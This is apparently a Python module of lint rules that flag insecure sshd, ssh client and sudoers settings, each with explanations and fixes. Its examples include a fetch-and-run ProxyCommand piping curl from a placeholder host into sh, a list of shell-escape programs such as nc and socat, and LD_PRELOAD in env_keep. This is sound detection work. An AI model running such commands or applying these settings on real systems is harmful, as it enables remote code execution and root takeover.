"""Rules for OpenSSH servers and clients, and for sudo."""

from __future__ import annotations

import re
from collections.abc import Iterator

from ...finding import Example, Rule
from ...records import TYPE_CHECKING
from ..match import Custom, Hit, Keys, Replace, Where
from ..predicates import equals, is_true, is_zero, matches, more_than, one_of, scalar_text

if TYPE_CHECKING:
    from typing import Final

    from ...files.tree import Tree
    from ...parse import File
    from ...parse.node import Node

SSHD: Final = ("sshd",)
CLIENT: Final = ("ssh-client",)
_SERVER: Final = "https://man.openbsd.org/sshd_config"
_USER: Final = "https://man.openbsd.org/ssh_config"
_WEAK: Final = r"(?i)(?:\A|[,\s=+^])(?:3des-cbc|blowfish-cbc|cast128-cbc|arcfour(?:128|256)?|aes(?:128|192|256)-cbc|rijndael-cbc@lysator\.liu\.se|des|none|hmac-md5(?:-96)?(?:-etm@openssh\.com)?|hmac-sha1-96(?:-etm@openssh\.com)?|hmac-ripemd160\S*|umac-64\S*|diffie-hellman-group1-sha1|diffie-hellman-group14-sha1|diffie-hellman-group-exchange-sha1|gss-\S*sha1\S*|ssh-dss\S*|ssh-rsa(?:-cert-v01@openssh\.com)?)(?=[,\s]|\Z)"


def unlimited_sudo(file: File, tree: Tree) -> Iterator[Hit]:
    """``NOPASSWD: ALL`` of any user or group."""
    document = file.document
    for root in document.roots if document is not None else ():
        for rule in root.walk():
            if rule.kind != "sequence":
                continue
            words = rule.children
            for at, word in enumerate(words):
                text = scalar_text(word) or ""
                following = scalar_text(words[at + 1]) if at + 1 < len(words) else ""
                if (text.endswith("NOPASSWD:") and (following or "").rstrip(",") == "ALL") or text.endswith("NOPASSWD:ALL"):
                    yield Hit(word)


def no_authentication(file: File, tree: Tree) -> Iterator[Hit]:
    """``Defaults !authenticate``: nobody is asked for a password any more."""
    document = file.document
    for root in document.roots if document is not None else ():
        for word in root.walk():
            if word.kind == "scalar" and (scalar_text(word) or "").rstrip(",") == "!authenticate":
                yield Hit(word)


# programs from which a shell, or any file, is one step away
_ESCAPES: Final = frozenset(
    """
    ash awk bash bundle busybox cat chmod chown cp crontab curl dash dd docker ed emacs env find gawk gcc gdb gem git head ionice ip irb jq
    ksh less lua make man more mount mv nano nc ncat nice nmap node npm nsenter perl php pico pip pip3 podman python python2 python3 rsync
    ruby rvim scp screen script sed sftp sh socat sqlite3 ssh strace su systemctl tail tar taskset tcpdump tee timeout tmux vi view vim
    vimdiff visudo watch wget xargs yum zip zsh
    """.split()  # noqa: SIM905 - a list of words reads best as one
)
_KEPT: Final = r"\b(?:LD_\w+|PYTHONPATH|PYTHONHOME|PERL5LIB|PERL5OPT|RUBYLIB|RUBYOPT|NODE_OPTIONS|BASH_ENV|ENV|PATH|IFS|SHELLOPTS|JAVA_TOOL_OPTIONS|GCONV_PATH)\b"


def _sudo_lines(file: File) -> Iterator[tuple[str, list[Node], list[str]]]:
    """The lines of a sudoers file: who, the words and their texts."""
    document = file.document
    for root in document.roots if document is not None else ():
        for line in root.children:
            words = line.children or [line]
            yield line.key or "", words, [scalar_text(word) or "" for word in words]


def escaping_sudo(file: File, tree: Tree) -> Iterator[Hit]:
    """Commands without password that start any other: an editor, ``find``, an interpreter, a wildcard in the arguments."""
    for who, words, texts in _sudo_lines(file):
        free = False
        for at, (word, text) in enumerate(zip(words, texts, strict=True)):
            if who == "Defaults" or who.endswith("_Alias") or text == "ALL":
                continue
            if re.search(r"(?:\A|:)NOPASSWD:", text):
                free = True
                text = text.rpartition(":")[2]
            elif re.search(r"(?:\A|:)PASSWD:", text):
                free = False
            if not free or not text.startswith("/"):
                continue
            name = text.rpartition("/")[2]
            arguments = texts[at + 1 : at + 4]
            if name in _ESCAPES and (
                name not in ("systemctl", "ip", "cat", "tail", "head", "chmod", "chown") or arguments[:1] in ([], ["*"])
            ):
                yield Hit(word, f"{name} without a password is every other command, too: it opens a shell or writes any file")


def loose_sudo(file: File, tree: Tree) -> Iterator[Hit]:
    """``Defaults`` that take a protection of sudo away."""
    for who, words, texts in _sudo_lines(file):
        if who != "Defaults":
            continue
        joined = " ".join(texts)
        for word, text in zip(words, texts, strict=True):
            bare = text.rstrip(",")
            if bare in ("!env_reset", "visiblepw", "!use_pty", "!secure_path", "setenv"):
                yield Hit(word, f"{bare} takes away a protection of sudo")
            elif re.fullmatch(r"timestamp_timeout=-\d+(\.\d+)?", bare):
                yield Hit(word, "sudo never asks again once the password was given")
        if re.match(r"env_keep\s*\+?=", joined) and re.search(_KEPT, joined):
            yield Hit(words[-1], "with these variables the caller decides what a program run by sudo loads")


def everybody_sudo(file: File, tree: Tree) -> Iterator[Hit]:
    """``ALL ALL=(ALL) ALL``: every account is an administrator's."""
    for who, words, texts in _sudo_lines(file):
        if who == "ALL" and texts[-1:] == ["ALL"] and len(texts) > 1:
            yield Hit(words[-1])


def excluded_sudo(file: File, tree: Tree) -> Iterator[Hit]:
    """``ALL, !/bin/su``: what is excluded is copied, and run under another name."""
    for who, words, texts in _sudo_lines(file):
        if who == "Defaults" or "ALL" not in [text.rstrip(",") for text in texts[1:]]:
            continue
        for word, text in zip(words[1:], texts[1:], strict=True):
            if text.startswith("!/"):
                yield Hit(word)


RULES: tuple[Rule, ...] = (
    Rule(
        id="sshd-root-login",
        family="config",
        title="root may log in with a password",
        severity="high",
        tier="block",
        cwe=250,
        why="Everybody knows the name of the account; a guessed or stolen password is the whole machine.",
        fix="Use PermitRootLogin no, and sudo for administration.",
        match=Keys(SSHD, ("permitrootlogin", "match.permitrootlogin"), one_of("yes"), mend=Replace("no", safe=False)),
        references=(_SERVER + "#PermitRootLogin",),
        bad=(Example("PermitRootLogin «yes»\n"),),
        good=(
            Example("PermitRootLogin prohibit-password\n"),
            Example("#PermitRootLogin yes\nPermitRootLogin no\n"),
            Example("PermitRootLogin {{ root_login }}\n", "templates/sshd_config.j2"),
        ),
    ),
    Rule(
        id="sshd-empty-passwords",
        family="config",
        title="accounts without password may log in",
        severity="critical",
        tier="block",
        cwe=258,
        why="Whoever reaches the port is in.",
        fix="Use PermitEmptyPasswords no.",
        match=Keys(SSHD, ("permitemptypasswords", "match.permitemptypasswords"), one_of("yes"), mend=Replace("no")),
        references=(_SERVER + "#PermitEmptyPasswords",),
        bad=(Example("PermitEmptyPasswords «yes»\n"),),
        good=(Example("PermitEmptyPasswords no\n"), Example("PermitEmptyPasswords {{ empty }}\n", "templates/sshd_config.j2")),
    ),
    Rule(
        id="sshd-passwords",
        family="config",
        title="logins with passwords are allowed",
        severity="high",
        tier="block",
        cwe=521,
        why="Passwords are guessed and reused, day and night, on every address of the Internet.",
        fix="Use PasswordAuthentication no and keys.",
        match=Keys(SSHD, ("passwordauthentication",), one_of("yes"), mend=Replace("no", safe=False)),
        references=(_SERVER + "#PasswordAuthentication",),
        bad=(Example("PasswordAuthentication «yes»\n"),),
        good=(Example("PasswordAuthentication no\n"), Example("PasswordAuthentication {{ passwords }}\n", "templates/sshd_config.j2")),
    ),
    Rule(
        id="sshd-protocol-1",
        family="config",
        title="version 1 of the protocol is offered",
        severity="high",
        tier="block",
        cwe=327,
        why="Version 1 is broken: sessions can be read and changed.",
        fix="Use Protocol 2, or take the line out.",
        match=Keys(SSHD, ("protocol",), matches(r"(?:\A|[,\s])1(?:[,\s]|\Z)"), mend=Replace("2")),
        references=(_SERVER,),
        bad=(Example("Protocol «2,1»\n"),),
        good=(Example("Protocol 2\n"), Example("Protocol {{ version }}\n", "templates/sshd_config.j2")),
    ),
    Rule(
        id="ssh-weak-algorithms",
        family="config",
        title="an outdated cipher, MAC, key exchange or signature is offered",
        severity="high",
        tier="block",
        cwe=327,
        why="These algorithms are broken or too short; an attacker on the way can make both sides agree on them.",
        fix="Take the line out and use OpenSSH's own choice.",
        match=Keys(
            ("sshd", "ssh-client"),
            tuple(
                f"{at}{name}"
                for at in ("", "match.", "host.")
                for name in (
                    "ciphers",
                    "macs",
                    "kexalgorithms",
                    "hostkeyalgorithms",
                    "pubkeyacceptedalgorithms",
                    "pubkeyacceptedkeytypes",
                    "casignaturealgorithms",
                )
            ),
            matches(r"\A(?!-)(?:[\s\S]*?)" + _WEAK.replace("(?i)", "")),
        ),
        references=(_SERVER + "#Ciphers", "https://www.openssh.com/legacy.html"),
        bad=(Example("Ciphers «aes256-gcm@openssh.com,3des-cbc»\n"), Example("KexAlgorithms «+diffie-hellman-group1-sha1»\n")),
        good=(
            Example("Ciphers aes256-gcm@openssh.com,chacha20-poly1305@openssh.com\nKexAlgorithms -diffie-hellman-group1-sha1\n"),
            Example("Ciphers {{ ciphers }}\n", "templates/sshd_config.j2"),
        ),
    ),
    Rule(
        id="sshd-loose-settings",
        family="config",
        title="a setting of the SSH server opens more than logins need",
        severity="medium",
        tier="warn",
        cwe=284,
        why="Forwarding turns a login into a way into the network, user environments can replace programs, and host-based trust believes other machines.",
        fix="Set it to no.",
        match=Keys(
            SSHD,
            (
                "x11forwarding",
                "allowtcpforwarding",
                "permituserenvironment",
                "hostbasedauthentication",
                "gatewayports",
                "permittunnel",
                "allowagentforwarding",
            ),
            one_of("yes", "all"),
            message="{key} opens more than logins need",
            mend=Replace("no", safe=False),
        ),
        references=(_SERVER,),
        bad=(Example("X11Forwarding «yes»\nPermitUserEnvironment «yes»\n"),),
        good=(
            Example("X11Forwarding no\nPermitUserEnvironment no\n"),
            Example("AllowTcpForwarding local\n"),
            Example("X11Forwarding {{ x11 }}\n", "templates/sshd_config.j2"),
        ),
    ),
    Rule(
        id="sshd-checks-off",
        family="config",
        title="a check of the SSH server is switched off",
        severity="medium",
        tier="warn",
        cwe=732,
        why="Without StrictModes keys that everybody may write are believed; with IgnoreRhosts no other machines are.",
        fix="Set it to yes.",
        match=Keys(
            SSHD,
            ("strictmodes", "ignorerhosts", "useprivilegeseparation"),
            one_of("no"),
            message="{key} is switched off",
            mend=Replace("yes", safe=False),
        ),
        references=(_SERVER + "#StrictModes",),
        bad=(Example("StrictModes «no»\n"),),
        good=(Example("StrictModes yes\n"), Example("StrictModes {{ strict }}\n", "templates/sshd_config.j2")),
    ),
    Rule(
        id="ssh-client-host-keys",
        family="config",
        title="the keys of hosts are not checked",
        severity="high",
        tier="block",
        cwe=322,
        why="Anybody on the way can pose as the host and take what is sent to it.",
        fix="Use StrictHostKeyChecking yes (or accept-new) and distribute known_hosts.",
        match=Keys(CLIENT, ("**.stricthostkeychecking",), one_of("no", "off"), mend=Replace("accept-new", safe=False)),
        references=(_USER + "#StrictHostKeyChecking",),
        bad=(Example("Host *\n  StrictHostKeyChecking «no»\n"),),
        good=(
            Example("Host *\n  StrictHostKeyChecking accept-new\n"),
            Example("Host *\n  StrictHostKeyChecking {{ check }}\n", "templates/ssh_config.j2"),
        ),
    ),
    Rule(
        id="ssh-client-forgets-hosts",
        family="config",
        title="the keys of hosts are forgotten at once",
        severity="high",
        tier="block",
        cwe=322,
        why="With /dev/null as memory every key is new and accepted: anybody on the way can pose as the host.",
        fix="Take UserKnownHostsFile out.",
        match=Keys(
            CLIENT,
            ("**.{userknownhostsfile,globalknownhostsfile}",),
            equals("/dev/null"),
            where=(Where("stricthostkeychecking", one_of("no", "off"), absent=True),),
        ),
        references=(_USER + "#UserKnownHostsFile",),
        bad=(Example("Host build\n  UserKnownHostsFile «/dev/null»\n"),),
        good=(
            Example("Host build\n  UserKnownHostsFile ~/.ssh/known_hosts\n"),
            Example("Host build\n  UserKnownHostsFile {{ file }}\n", "templates/ssh_config.j2"),
        ),
    ),
    Rule(
        id="ssh-client-agent-forwarding",
        family="config",
        title="the agent is forwarded to every host",
        severity="medium",
        tier="warn",
        cwe=522,
        why="Whoever is root on one of these hosts uses your keys while you are logged in.",
        fix="Forward it only where you must, better use ProxyJump.",
        match=Keys(CLIENT, ("host.forwardagent", "forwardagent"), is_true, where=(Where("@args[*]", equals("*")),)),
        references=(_USER + "#ForwardAgent",),
        bad=(Example("Host *\n  ForwardAgent «yes»\n"),),
        good=(Example("Host bastion\n  ForwardAgent yes\n"), Example("Host *\n  ForwardAgent {{ forward }}\n", "templates/ssh_config.j2")),
    ),
    Rule(
        id="sudo-without-password",
        family="config",
        title="every command may be run as root without a password",
        severity="high",
        tier="warn",
        cwe=250,
        why="A program that runs as this user, a dependency or a browser, is root when it likes.",
        fix="Name the commands that need no password, or take NOPASSWD out.",
        match=Custom(("sudoers",), unlimited_sudo),
        references=("https://www.sudo.ws/docs/man/sudoers.man/#NOPASSWD",),
        bad=(Example("deploy ALL=(ALL) «NOPASSWD:» ALL\n"),),
        good=(
            Example("deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n"),
            Example("%admin ALL=(ALL) ALL\n"),
            Example("{{ user }} ALL=(ALL) NOPASSWD: {{ commands }}\n", "templates/sudoers.j2"),
        ),
    ),
    Rule(
        id="sudo-no-authentication",
        family="config",
        title="sudo asks nobody for a password",
        severity="high",
        tier="warn",
        cwe=306,
        why="A program that runs as any user who may use sudo is root when it likes.",
        fix="Take !authenticate out.",
        match=Custom(("sudoers",), no_authentication),
        references=("https://www.sudo.ws/docs/man/sudoers.man/#authenticate",),
        bad=(Example("Defaults «!authenticate»\n"),),
        good=(Example("Defaults authenticate\n"), Example("Defaults {{ defaults }}\n", "templates/sudoers.j2")),
    ),
    Rule(
        id="sudo-program-that-escapes",
        family="config",
        title="this command without a password is all commands",
        severity="high",
        tier="warn",
        cwe=250,
        confidence="medium",
        why="Editors, interpreters, find, tar and the like start a shell or write any file; whoever may run one as root is root.",
        fix="Allow a script of your own that does the one thing, with fixed arguments; sudoedit instead of an editor.",
        match=Custom(("sudoers",), escaping_sudo),
        references=("https://gtfobins.github.io/", "https://www.sudo.ws/docs/man/sudoers.man/#Preventing_shell_escapes"),
        bad=(Example("deploy ALL=(root) NOPASSWD: «/usr/bin/vim», /usr/bin/systemctl restart app\n"),),
        good=(
            Example("deploy ALL=(root) NOPASSWD: /opt/acme/deploy, /usr/bin/systemctl restart app\n"),
            Example("deploy ALL=(root) NOPASSWD: {{ commands }}\n", "templates/sudoers.j2"),
            Example("deploy ALL=(root) /usr/bin/vim\n"),
        ),
    ),
    Rule(
        id="sudo-protection-off",
        family="config",
        title="a protection of sudo is switched off",
        severity="medium",
        tier="warn",
        cwe=426,
        why="The environment of the caller then reaches what runs as root, its password shows, or a program in the background types into its terminal.",
        fix="Take the line out; env_reset, secure_path and use_pty are the defaults.",
        match=Custom(("sudoers",), loose_sudo),
        references=("https://www.sudo.ws/docs/man/sudoers.man/#SUDOERS_OPTIONS",),
        bad=(
            Example("Defaults «!env_reset»\nDefaults «timestamp_timeout=-1»\n"),
            Example('Defaults env_keep += «"LD_PRELOAD DISPLAY"»\n'),
        ),
        good=(
            Example('Defaults env_reset\nDefaults timestamp_timeout=5\nDefaults env_keep += "LANG LC_ALL"\n'),
            Example("Defaults timestamp_timeout={{ minutes }}\n", "templates/sudoers.j2"),
        ),
    ),
    Rule(
        id="sudo-for-everybody",
        family="config",
        title="every account may run everything as root",
        severity="high",
        tier="block",
        cwe=250,
        why="A service's account that was taken over is root.",
        fix="Name the users, or a group of administrators.",
        match=Custom(("sudoers",), everybody_sudo),
        references=("https://www.sudo.ws/docs/man/sudoers.man/",),
        bad=(Example("ALL ALL=(ALL) «ALL»\n"),),
        good=(Example("root ALL=(ALL) ALL\n%admin ALL=(ALL) ALL\n"), Example("{{ admins }} ALL=(ALL) ALL\n", "templates/sudoers.j2")),
    ),
    Rule(
        id="sudo-exclusion",
        family="config",
        title="this exclusion excludes nothing",
        severity="medium",
        tier="warn",
        cwe=183,
        why="Who may run all other commands copies the program, or starts it from a shell.",
        fix="List what is allowed instead of what is not.",
        match=Custom(("sudoers",), excluded_sudo),
        references=("https://www.sudo.ws/docs/man/sudoers.man/#Limitations_of_the_(lq!(rq_operator",),
        bad=(Example("alice ALL=(ALL) ALL, «!/bin/su»\n"),),
        good=(
            Example("alice ALL=(ALL) /usr/bin/apt-get update, !/usr/bin/apt-get update -o*\n"),
            Example("alice ALL=(ALL) ALL, {{ excluded }}\n", "templates/sudoers.j2"),
        ),
    ),
    Rule(
        id="sshd-many-tries",
        family="config",
        title="passwords may be guessed many times in one connection",
        severity="medium",
        tier="warn",
        cwe=307,
        why="Many tries in one connection make guessing cheap, and what counts connections does not see it.",
        fix="Use MaxAuthTries 4.",
        match=Keys(SSHD, ("maxauthtries",), more_than(10), mend=Replace("4", safe=False)),
        references=(_SERVER + "#MaxAuthTries",),
        bad=(Example("MaxAuthTries «100»\n"),),
        good=(Example("MaxAuthTries 4\n"), Example("MaxAuthTries {{ tries }}\n", "templates/sshd_config.j2")),
    ),
    Rule(
        id="sshd-waits-forever",
        family="config",
        title="connections without a login stay open for ever",
        severity="medium",
        tier="warn",
        cwe=400,
        why="Strangers hold all connections that the server allows, and nobody gets in.",
        fix="Use LoginGraceTime 30. Where it is 0 because of CVE-2024-6387, update the server.",
        match=Keys(SSHD, ("logingracetime",), is_zero, mend=Replace("30", safe=False)),
        references=(_SERVER + "#LoginGraceTime",),
        bad=(Example("LoginGraceTime «0»\n"),),
        good=(Example("LoginGraceTime 2m\n"), Example("LoginGraceTime {{ grace }}\n", "templates/sshd_config.j2")),
    ),
    Rule(
        id="sshd-keys-of-strangers",
        family="config",
        title="the keys that may log in lie where others can write",
        severity="high",
        tier="block",
        cwe=732,
        why="Whoever writes a file there logs in as anybody.",
        fix="Use .ssh/authorized_keys, or a directory of root such as /etc/ssh/authorized_keys/%u.",
        match=Keys(
            SSHD,
            ("authorizedkeysfile", "authorizedkeysfile[*]", "match.authorizedkeysfile"),
            matches(r"\A(/tmp/|/var/tmp/|/dev/shm/)"),
        ),
        references=(_SERVER + "#AuthorizedKeysFile",),
        bad=(Example("AuthorizedKeysFile «/tmp/keys/%u»\n"),),
        good=(
            Example("AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n"),
            Example("AuthorizedKeysFile {{ keys }}\n", "templates/sshd_config.j2"),
        ),
    ),
    Rule(
        id="sshd-quiet",
        family="config",
        title="the SSH server logs nothing",
        severity="low",
        tier="warn",
        cwe=778,
        why="Guessed passwords and strange logins leave no trace.",
        fix="Use LogLevel VERBOSE, or INFO.",
        match=Keys(SSHD, ("loglevel",), one_of("QUIET", "FATAL"), mend=Replace("VERBOSE", safe=True)),
        references=(_SERVER + "#LogLevel",),
        bad=(Example("LogLevel «QUIET»\n"),),
        good=(Example("LogLevel VERBOSE\n"), Example("LogLevel {{ level }}\n", "templates/sshd_config.j2")),
    ),
    Rule(
        id="ssh-client-runs-download",
        family="config",
        title="connecting runs a program from the network",
        severity="high",
        tier="block",
        cwe=494,
        why="Whoever controls that address runs code on every machine with this configuration.",
        fix="Keep the program with the configuration.",
        match=Keys(
            CLIENT,
            ("**.{proxycommand,localcommand,knownhostscommand}", "**.{proxycommand,localcommand,knownhostscommand}[*]"),
            matches(r"(?:curl|wget)\b[^|;]*\|\s*(?:ba|z|da)?sh\b"),
        ),
        references=(_USER + "#ProxyCommand",),
        bad=(Example('Host *\n  ProxyCommand «"curl -s https://x.example.net/p | sh"»\n'),),
        good=(
            Example('Host *\n  ProxyCommand "nc -X 5 -x proxy.acme.io:1080 %h %p"\n'),
            Example("Host *\n  ProxyCommand {{ command }}\n", "templates/ssh_config.j2"),
        ),
    ),
)
